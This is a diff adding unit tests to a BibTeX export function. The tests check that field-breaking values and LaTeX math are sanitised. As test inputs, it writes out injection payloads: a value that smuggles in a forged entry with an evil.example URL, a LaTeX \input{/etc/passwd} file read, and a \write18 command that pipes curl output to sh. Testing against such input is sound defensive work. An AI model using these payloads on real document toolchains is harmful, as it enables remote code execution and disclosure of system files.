@@ -144,6 +144,27 @@ def test_an_author_list_the_source_cut_short_ends_in_and_others():
     assert "and others" not in bibtex_entry(make_paper(authors=names))
 
 
+def test_a_category_or_year_that_could_end_its_field_is_left_out():
+    evil = "cs.LG}} @misc{injected, title={Pwned}, url={https://evil.example}"
+    entry = bibtex_entry(make_paper(primary_category=evil, updated="20}}-01-01"))
+    entries = read_back(entry)
+    assert [(e["key"], e["eprint"]) for e in entries] == [("vaswaniattentionneed", "1706.03762")]
+    assert "primaryClass" not in entry
+    assert "year" not in entry
+    assert "injected" not in entry
+
+
+@pytest.mark.parametrize(
+    "tex",
+    [r"$\input{/etc/passwd}$", r"$\immediate\write18{curl x|sh}$", r"$\end{thebibliography}$"],
+)
+def test_math_that_does_more_than_typeset_is_written_as_text(tex):
+    title = f"Bounds {tex} here"
+    entry = bibtex_entry(make_paper(title))
+    assert tex not in entry
+    assert read_back(entry)[0]["title"] == plain_text(title)
+
+
 def test_a_doi_that_cannot_be_written_verbatim_is_left_out():
     entry = bibtex_entry(make_paper(doi="10.1/x}\\evil"))
     assert "doi" not in entry
